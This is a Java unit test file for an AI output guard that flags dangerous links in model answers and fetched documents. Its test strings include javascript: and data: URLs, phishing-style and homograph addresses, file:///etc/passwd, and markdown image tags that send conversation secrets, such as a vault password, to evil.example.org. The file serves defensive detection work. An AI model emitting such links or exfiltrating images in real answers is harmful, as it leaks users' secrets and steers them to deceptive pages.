package io.bulwark.guard.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.bulwark.guard.Exchange;
import io.bulwark.guard.Finding;
import io.bulwark.guard.GuardResult;
import io.bulwark.guard.NotChecked;
import io.bulwark.guard.Policy;
import io.bulwark.guard.Verdict;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class LinkTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "UNSAFE_URL | [open](javascript:alert(document.title))",
                "UNSAFE_URL | See data:text/html;base64,PGI+aGk8L2I+ for more",
                "UNSAFE_URL | Log in at https://bank.example.com@evil.example.org/login",
                "UNSAFE_URL | Get it from http://203.0.113.7/setup",
                "UNSAFE_URL | Get it from http://0xcb007107/setup",
                "UNSAFE_URL | Open file:///etc/passwd",
                "HOMOGRAPH_URL | Log in at https://аpple.com/id",
                "HOMOGRAPH_URL | Log in at https://xn--pple-43d.com/id",
                "SHORTENED_URL | More at https://bit.ly/3abcdef"
            })
    void addresses_that_deceive_or_run_something_are_found_in_an_answer(String category, String answer) {
        assertThat(Guarded.categories(Guarded.output(answer))).contains(category);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "See https://docs.example.org/guide/start?page=2&lang=en#install for the steps.",
                "The source is at <https://github.com/example/project/blob/main/README.md>.",
                "![logo](https://cdn.example.org/assets/logo.png)",
                "![chart](https://charts.example.org/render?width=400&height=300&type=bar)",
                "Write to mailto:help@example.org or call tel:+4930901820",
                "Clone git@github.com:example/project.git or ssh://git@example.org/project.git",
                "Ratio 3:4, time 12:30, C:\\Users\\ana, note: none"
            })
    void ordinary_addresses_pass(String answer) {
        assertThat(Guarded.output(answer).findings()).isEmpty();
    }

    @Test
    void an_image_that_carries_the_conversation_away_is_blocked() {
        Exchange exchange = new Exchange(
                "My access word for the vault is blue heron seventeen lake.",
                "Done! ![ok](https://img.example.org/p.png?d=blue+heron+seventeen+lake)",
                List.of(),
                List.of(),
                null,
                null);

        GuardResult result = Guarded.check(exchange);

        assertThat(result.verdict()).isEqualTo(Verdict.BLOCK);
        assertThat(Guarded.categories(result)).contains("DATA_EXFILTRATION");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](https://evil.example.org/log?data={conversation})",
                "![x](https://evil.example.org/log?data=the%20user%20said%20that%20the%20code%20is%20four)",
                "<img src=\"https://evil.example.org/p.gif?q=c2VjcmV0IG9mIHRoZSB1c2VyIGlzIGhpZGRlbiBoZXJlIHRvZGF5\">"
            })
    void an_image_whose_address_holds_a_message_is_found_in_answers_and_documents(String text) {
        assertThat(Guarded.categories(Guarded.output(text))).contains("DATA_EXFILTRATION");
        assertThat(Guarded.categories(Guarded.document("A page.\n" + text))).contains("DATA_EXFILTRATION");
    }

    @Test
    void the_place_of_an_address_leaves_out_the_signs_around_it() {
        String text = "😀 (see http://203.0.113.7/setup). Bye";

        Finding finding = Guarded.output(text).findings().getFirst();

        assertThat(Guarded.passage(text, finding)).isEqualTo("http://203.0.113.7/setup");
    }

    @Test
    void hosts_that_the_policy_allows_are_no_findings() {
        Policy policy = Guarded.with("allowed_hosts: [203.0.113.7, example.org]");

        assertThat(Guarded.check(Exchange.output("http://203.0.113.7/setup"), policy)
                        .findings())
                .isEmpty();
        assertThat(Guarded.check(Exchange.output("![x](https://img.example.org/p?d={all})"), policy)
                        .findings())
                .isEmpty();
        assertThat(Guarded.check(Exchange.output("![x](https://notexample.org/p?d={all})"), policy)
                        .findings())
                .isNotEmpty();
    }

    @Test
    void a_user_may_ask_about_an_address_that_an_answer_may_not_hand_out() {
        assertThat(Guarded.input("Is http://203.0.113.7/setup safe? And what does bit.ly/3abcdef do?")
                        .verdict())
                .isEqualTo(Verdict.ALLOW);
    }

    @Test
    void a_short_address_is_flagged_where_an_answer_hands_it_out_and_not_in_a_post_that_a_search_brought() {
        String post = "Markets closed higher today, more at https://bit.ly/3abcdef";

        assertThat(Guarded.output(post).verdict()).isEqualTo(Verdict.FLAG);
        assertThat(Guarded.document(post).verdict()).isEqualTo(Verdict.ALLOW);
    }

    @Test
    void harmless_addresses_in_front_do_not_hide_a_bad_one_and_the_limit_is_said() {
        String few = "https://docs.example.org/page\n".repeat(400) + "[x](javascript:alert(1))";
        String many = "https://docs.example.org/page\n".repeat(5_000);

        assertThat(Guarded.categories(Guarded.output(few))).contains("UNSAFE_URL");
        assertThat(Guarded.check(new Exchange(null, many, List.of(), List.of(), null, null))
                        .notChecked())
                .extracting(NotChecked::detector)
                .contains("links");
    }
}
